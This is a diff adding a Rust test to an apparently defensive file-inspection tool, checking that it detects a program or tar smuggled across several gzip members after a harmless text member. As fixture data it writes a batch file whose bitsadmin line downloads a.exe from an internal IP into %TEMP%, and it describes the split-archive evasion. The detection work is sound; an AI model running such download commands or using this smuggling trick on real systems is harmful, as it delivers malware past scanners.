@@ -2203,3 +2203,88 @@ fn a_gzip_inside_the_bytes_of_an_earlier_archive_walk_is_still_opened() {
         );
     }
 }
+
+/// Review s8-r10: once a search stopped opening a gzip file at each later member, a member
+/// was judged by its own bytes only, so a program or a tar cut over two members after a
+/// text member was silence: `M` alone and `Z...` alone name nothing, and the rest of a tar
+/// cut in a member's data is in no member's own bytes; `tail -c +N file.gz | gunzip`
+/// from the second member delivers the program, and `| tar x` the batch file. The
+/// members are the real gzip's, the tar GNU tar's.
+#[test]
+fn a_program_or_tar_cut_over_gzip_members_is_found_from_the_first_of_them() {
+    let dir = TempDir::new();
+    std::fs::write(dir.path("readme.txt"), b"r".repeat(3000)).expect("write");
+    std::fs::write(
+        dir.path("run.bat"),
+        b"@echo off\r\nbitsadmin /transfer x http://10.0.0.5/a.exe %TEMP%\\a.exe\r\n",
+    )
+    .expect("write");
+    run(
+        "tar",
+        &["--format=ustar", "-cf", "t.tar", "readme.txt", "run.bat"],
+        &dir.0,
+    );
+    let tar = std::fs::read(dir.path("t.tar")).expect("read");
+    let pe = kit::real_pe();
+    let gzip = |data: &[u8]| {
+        std::fs::write(dir.path("part"), data).expect("write");
+        let out = Command::new("gzip")
+            .args(["-c", "-n", "part"])
+            .current_dir(&dir.0)
+            .output()
+            .expect("gzip");
+        assert!(out.status.success());
+        out.stdout
+    };
+    let text = gzip(&b"Study report: no acute findings.\n".repeat(20));
+    for (case, parts) in [
+        ("program cut after its first byte", vec![&pe[..1], &pe[1..]]),
+        (
+            "tar cut in a member's data",
+            vec![&tar[..1000], &tar[1000..]],
+        ),
+        ("tar cut in a header", vec![&tar[..100], &tar[100..]]),
+    ] {
+        let mut file = text.clone();
+        for part in parts {
+            file.extend(gzip(part));
+        }
+        // What the members after the text deliver, read by the real gzip and tar.
+        std::fs::write(dir.path("cut.gz"), &file[text.len()..]).expect("write");
+        let delivered = Command::new("sh")
+            .args([
+                "-c",
+                "gzip -dc cut.gz | (tar -tf - 2>/dev/null || true); gzip -dc cut.gz | head -c 2",
+            ])
+            .current_dir(&dir.0)
+            .output()
+            .expect("sh");
+        let delivered = String::from_utf8_lossy(&delivered.stdout);
+        assert!(
+            delivered.contains("run.bat") || delivered.ends_with("MZ"),
+            "{case}: {delivered}"
+        );
+        let inspection = inspect(&in_private_element(&file));
+        assert!(
+            has_alert(&inspection, FindingKind::EmbeddedExecutable),
+            "{case}: {:#?}",
+            inspection.observations
+        );
+    }
+    // Members of pages are judged each from its start, with no limit reached.
+    let mut pages = Vec::new();
+    for n in 0..200 {
+        let mut page = format!("<html><body><p>report {n}</p></body></html>\n").into_bytes();
+        page.extend(b"x".repeat(20_000));
+        pages.extend(gzip(&page));
+    }
+    let inspection = inspect(&in_private_element(&pages));
+    assert!(
+        inspection
+            .observations
+            .iter()
+            .all(|o| o.severity != Severity::Alert && o.kind != FindingKind::NotInspected),
+        "{:#?}",
+        inspection.observations
+    );
+}
